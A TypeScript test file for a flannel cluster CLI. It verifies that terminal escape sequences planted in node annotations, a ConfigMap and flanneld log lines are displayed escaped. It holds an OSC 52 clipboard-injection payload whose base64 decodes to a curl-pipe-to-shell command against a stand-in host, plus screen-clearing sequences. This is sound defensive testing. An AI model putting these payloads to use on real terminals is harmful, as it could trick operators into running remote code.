/* eslint-disable no-control-regex -- finding control characters is what this file is about */
// Issue 15.3: terminal escape injection. Whoever can write a node annotation or flannel's ConfigMap,
// or make flanneld log a line, must not drive the operator's terminal (OSC 52 writes the clipboard,
// CSI 2J clears the screen). Hostile values are planted with the real kubectl, exactly as an
// attacker would; text output shows them escaped (^[ like kubectl), JSON keeps them exactly.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { execFile } from 'node:child_process';
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { runCli } from '../helpers/cli.ts';
import { kubectlRequirement } from '../helpers/requirements.ts';
import { startVirtualCluster, type VirtualCluster } from '../../src/sim/virtual-cluster.ts';

const skip = kubectlRequirement();

const OSC52 = '\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07';
const CLEAR = '\x1b[2J\x1b[H';
const C1 = '\u009b2J';
const SHOWN_OSC52 = '^[]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==^G';
const SHOWN_CLEAR = '^[[2J^[[H';
// C0 but newline and tab, DEL, C1: nothing the terminal would act on.
const CONTROL = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/;
// chalk's colours, which the one coloured run keeps.
const OWN_SGR = /\x1b\[(?:0|1|2|22|3[0-79]|9[0-7])m/g;

const kubectl = async (cluster: VirtualCluster, ...args: string[]): Promise<void> => {
  const home = mkdtempSync(join(tmpdir(), 'flannelctl-kubectl-'));
  try {
    await new Promise<void>((resolve, reject) => {
      // Async: the emulator serves from this very process.
      execFile(
        'kubectl',
        args,
        { env: { PATH: process.env.PATH, HOME: home, KUBECONFIG: cluster.kubeconfig }, timeout: 60_000 },
        (error, _stdout, stderr) => (error ? reject(new Error(`kubectl ${args[0]}: ${stderr}`)) : resolve()),
      );
    });
  } finally {
    rmSync(home, { recursive: true, force: true });
  }
};

const assertNoControl = (what: string, text: string) => {
  const at = CONTROL.exec(text);
  assert.equal(at, null, `${what} has a raw control character at ${at?.index}: ${JSON.stringify(text)}`);
};

const plant = async (cluster: VirtualCluster) => {
  const ns = cluster.flannel.namespace;
  await kubectl(
    cluster,
    'annotate',
    '--overwrite',
    'node',
    'node-1',
    `flannel.alpha.coreos.com/public-ip=10.0.0.1${OSC52}${CLEAR}`,
  );
  await kubectl(
    cluster,
    'annotate',
    '--overwrite',
    'node',
    'node-2',
    `flannel.alpha.coreos.com/backend-type=host-gw${OSC52}${C1}`,
  );
  // What flanneld printed, served by pods/log like any container's output.
  const pod = cluster.flannel.api
    .list('pods', ns)
    .find((p) => (p.spec as { nodeName?: string }).nodeName === 'node-1')!;
  cluster.flannel.api.appendPodLog(
    ns,
    pod.metadata!.name!,
    `E1203 10:00:00.000000 1 route_network.go:168] Error adding route to 10.244.2.0/24: network is unreachable${CLEAR}${OSC52}\n`,
  );
};

test(
  'status, doctor and migrate --dry-run show hostile annotations and log lines escaped; JSON keeps them',
  { skip },
  async (t) => {
    const cluster = await startVirtualCluster({
      nodes: 2,
      backend: 'host-gw',
      routeCheckIntervalMs: 600_000,
    });
    t.after(() => cluster.close());
    await plant(cluster);
    const run = (...args: string[]) => runCli([...args, ...cluster.cliArgs()]);

    const status = await run('status');
    assert.equal(status.code, 0, status.stderr);
    for (const [what, text] of Object.entries({ stdout: status.stdout, stderr: status.stderr }))
      assertNoControl(`status ${what}`, text);
    // A public-ip flanneld would reject is no address (doctor's annotations check reports it).
    assert.match(status.stdout, /^node-1 +10\.244\.1\.0\/24 +<none> /m);
    assert.ok(status.stdout.includes(`host-gw${SHOWN_OSC52}<U+009B>2J`), status.stdout);
    assert.equal(status.stdout.split('\n').length, 4, 'header, two rows, final newline: no forged lines');

    const json = await run('status', '-o', 'json');
    assertNoControl('status -o json', json.stdout.replace(/\n/g, ''));
    const rows = (JSON.parse(json.stdout) as { nodeStatus: { name: string; backend: string | null }[] })
      .nodeStatus;
    assert.equal(rows.find((r) => r.name === 'node-2')?.backend, `host-gw${OSC52}${C1}`, 'exact value');

    const doctor = await run('doctor', '--no-color');
    assert.equal(doctor.code, 1, doctor.stderr);
    assertNoControl('doctor stdout', doctor.stdout);
    assertNoControl('doctor stderr', doctor.stderr);
    assert.ok(
      doctor.stdout.includes(`network is unreachable${SHOWN_CLEAR}${SHOWN_OSC52}`),
      `the log line as evidence, escaped:\n${doctor.stdout}`,
    );
    assert.ok(doctor.stdout.includes(`backend-type: host-gw${SHOWN_OSC52}<U+009B>2J`), doctor.stdout);
    assert.match(doctor.stdout, /annotations\/invalid-public-ip/, 'the hostile public-ip is a finding');

    const doctorJson = await run('doctor', '-o', 'json');
    const evidence = (JSON.parse(doctorJson.stdout) as { findings: { evidence: string[] }[] }).findings
      .flatMap((f) => f.evidence)
      .find((e) => e.includes('network is unreachable'));
    assert.ok(evidence?.endsWith(`network is unreachable${CLEAR}${OSC52}`), JSON.stringify(evidence));

    // Colours on (a terminal, or FORCE_COLOR): chalk's survive, the planted ones do not.
    const coloured = await runCli(['doctor', ...cluster.cliArgs()], { FORCE_COLOR: '1' });
    assert.match(coloured.stdout, /\x1b\[31m\x1b\[1mFAIL/, 'FAIL is still red and bold');
    assertNoControl('coloured doctor', coloured.stdout.replace(OWN_SGR, ''));
    assert.ok(coloured.stdout.includes(SHOWN_OSC52));

    const plan = await run('migrate', '--to', 'vxlan', '--dry-run');
    assertNoControl('migrate --dry-run stdout', plan.stdout);
    assertNoControl('migrate --dry-run stderr', plan.stderr);
  },
);

test('an error message quoting a hostile ConfigMap value is escaped too', { skip }, async (t) => {
  const cluster = await startVirtualCluster({ nodes: 2, backend: 'host-gw' });
  t.after(() => cluster.close());
  const netConf = JSON.stringify({ Network: '10.244.0.0/16', Backend: { Type: `host-gw${OSC52}${CLEAR}` } });
  await kubectl(
    cluster,
    '-n',
    cluster.flannel.namespace,
    'patch',
    'configmap',
    'kube-flannel-cfg',
    '--type',
    'merge',
    '-p',
    JSON.stringify({ data: { 'net-conf.json': netConf } }),
  );
  const r = await runCli(['migrate', '--to', 'vxlan', '--dry-run', ...cluster.cliArgs()]);
  assert.notEqual(r.code, 0, r.stdout);
  assertNoControl('stdout', r.stdout);
  assertNoControl('stderr', r.stderr);
  // The backend type is compared lower-cased, as flanneld does; it is quoted so, visibly escaped.
  assert.match(r.stderr, /^error: .*host-gw\^\[\]52;c;[^ ]*\^G\^\[\[2j\^\[\[h backend/m, r.stderr);
});
